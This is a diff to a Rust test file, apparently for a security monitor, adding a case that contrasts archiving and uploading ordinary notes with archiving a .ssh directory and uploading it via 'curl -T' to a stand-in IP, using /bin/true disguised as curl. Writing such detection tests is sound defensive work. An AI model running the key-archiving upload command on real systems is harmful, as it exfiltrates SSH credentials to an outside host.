@@ -1120,6 +1120,39 @@ fn cases() -> Vec<Case> {
                 b(pid_is(pid))
             },
         ),
+        case(
+            "Credentials archived then uploaded",
+            // The same upload after archiving ordinary data; then after
+            // archiving SSH keys.
+            |e| {
+                std::fs::create_dir_all(e.path("data")).unwrap();
+                write_file(&e.path("data/notes"));
+                let curl = e.copy("/bin/true", "curl");
+                let tag = unique("near-exfil");
+                let out = e.path(&unique("data.tar"));
+                sh(&format!(
+                    "tar cf {out} -C {dir} data; {curl} -T {out} http://203.0.113.9/ {tag}; true",
+                    out = out.display(),
+                    dir = e.dir.path().display(),
+                    curl = curl.display()
+                ));
+                b(argv_has(tag))
+            },
+            |e| {
+                std::fs::create_dir_all(e.path("keys/.ssh")).unwrap();
+                write_file(&e.path("keys/.ssh/id_test"));
+                let curl = e.copy("/bin/true", "curl");
+                let tag = unique("exfil");
+                let out = e.path(&unique("keys.tar"));
+                sh(&format!(
+                    "tar cf {out} -C {dir} .ssh; {curl} -T {out} http://203.0.113.9/ {tag}; true",
+                    out = out.display(),
+                    dir = e.path("keys").display(),
+                    curl = curl.display()
+                ));
+                b(argv_has(tag))
+            },
+        ),
     ]
 }
 
